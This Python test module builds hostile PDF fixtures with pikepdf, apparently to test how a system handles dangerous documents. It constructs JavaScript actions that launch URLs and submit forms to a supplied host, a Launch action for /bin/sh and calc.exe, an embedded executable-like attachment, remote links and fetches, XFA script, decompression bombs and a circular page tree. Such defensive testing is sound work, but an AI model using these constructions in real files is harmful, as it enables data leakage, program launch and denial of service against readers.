"""PDF files that act, lead elsewhere or swell."""

from __future__ import annotations

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests import files_world
from tests.hostile.pages import html


def pdf(to: str) -> bytes:
    return files_world.make_pdf(1, text="Nothing but a plan.")


def _pdf(change) -> bytes:
    """A PDF of one page after `change(document, page)`."""
    with pikepdf.open(io.BytesIO(files_world.make_pdf(1, text=change.__qualname__))) as document:
        change(document, document.pages[0].obj)
        out = io.BytesIO()
        document.save(out, static_id=True)
        return out.getvalue()


def _javascript(to: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{to}'); app.launchURL('{to}/pdf'); this.submitForm('{to}')"))


def pdf_with_script(to: str) -> bytes:
    def change(document, page):
        document.Root.OpenAction = _javascript(to)
        document.Root.AA = Dictionary(WC=_javascript(to))
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _javascript(to)])))
        page.AA = Dictionary(O=_javascript(to))

    return _pdf(change)


def pdf_that_launches(to: str) -> bytes:
    def change(document, page):
        document.Root.OpenAction = Dictionary(S=Name.Launch, F=String("/bin/sh"), Win=Dictionary(F=String("calc.exe"), P=String(to)))

    return _pdf(change)


def pdf_with_attachment(to: str) -> bytes:
    def change(document, page):
        document.attachments["plan.html"] = html(to)
        held = document.make_indirect(
            Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=document.make_stream(b"MZ" + html(to))))
        )
        page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 600, 600]), FS=held)])

    return _pdf(change)


def pdf_that_leads_elsewhere(to: str) -> bytes:
    actions = (
        Dictionary(S=Name.URI, URI=String(f"{to}/uri")),
        Dictionary(S=Name.URI, URI=String("javascript:document.title='taken'")),
        Dictionary(S=Name.GoToR, F=String(f"{to}/other.pdf"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.ImportData, F=String(f"{to}/data.fdf")),
    )

    def change(document, page):
        area = Array([0, 0, 612, 792])
        page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=area, A=action) for action in actions])
        document.Root.URI = Dictionary(Base=String(to))

    return _pdf(change)


def pdf_with_form(to: str) -> bytes:
    def change(document, page):
        send = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"{to}/form")), Flags=4)
        field = document.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), Rect=Array([0, 0, 99, 99]), V=String("b"), A=send,
                       AA=Dictionary(C=_javascript(to), K=_javascript(to))))  # fmt: skip
        page.Annots = Array([field])
        form = document.make_stream(f"<xdp:xdp xmlns:xdp='urn:x'><script>{to}</script></xdp:xdp>".encode())
        document.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]), XFA=form)

    return _pdf(change)


def pdf_with_picture_elsewhere(to: str) -> bytes:
    def change(document, page):
        picture = document.make_stream(b"")
        picture.stream_dict = Dictionary(
            Type=Name.XObject, Subtype=Name.Image, Width=9, Height=9, ColorSpace=Name.DeviceGray, BitsPerComponent=8,
            F=Dictionary(FS=Name.URL, F=String(f"{to}/picture")), FFilter=Name.DCTDecode,
        )  # fmt: skip
        page.Resources.XObject = Dictionary(P=picture)

    return _pdf(change)


def pdf_with_endless_page(to: str) -> bytes:
    def change(document, page):
        page.MediaBox, page.UserUnit = Array([0, 0, 14_400, 14_400]), 75_000

    return _pdf(change)


def pdf_bomb(to: str) -> bytes:
    """Of drawing operators, compressed twice."""
    packed = zlib.compressobj(1)
    once = b"".join(packed.compress(b"0 0 m 9 9 l S\n" * 75_000) for _ in range(200)) + packed.flush()

    def change(document, page):
        page.Contents = document.make_stream(zlib.compress(once, 9), Filter=Array([Name.FlateDecode, Name.FlateDecode]))

    return _pdf(change)


def pdf_with_picture_bomb(to: str) -> bytes:
    def change(document, page):
        picture = document.make_stream(zlib.compress(bytes(10_000_000), 9), Filter=Name.FlateDecode)
        for name, value in {
            "Type": Name.XObject,
            "Subtype": Name.Image,
            "Width": 100_000,
            "Height": 100_000,
            "BitsPerComponent": 8,
        }.items():
            picture[f"/{name}"] = value
        picture.ColorSpace = Name.DeviceGray
        page.Resources.XObject = Dictionary(P=picture)
        page.Contents = document.make_stream(b"q 600 0 0 600 0 0 cm /P Do Q")

    return _pdf(change)


def pdf_in_a_circle(to: str) -> bytes:
    def change(document, page):
        pages = document.Root.Pages
        pages.Kids.append(pages)

    return _pdf(change)
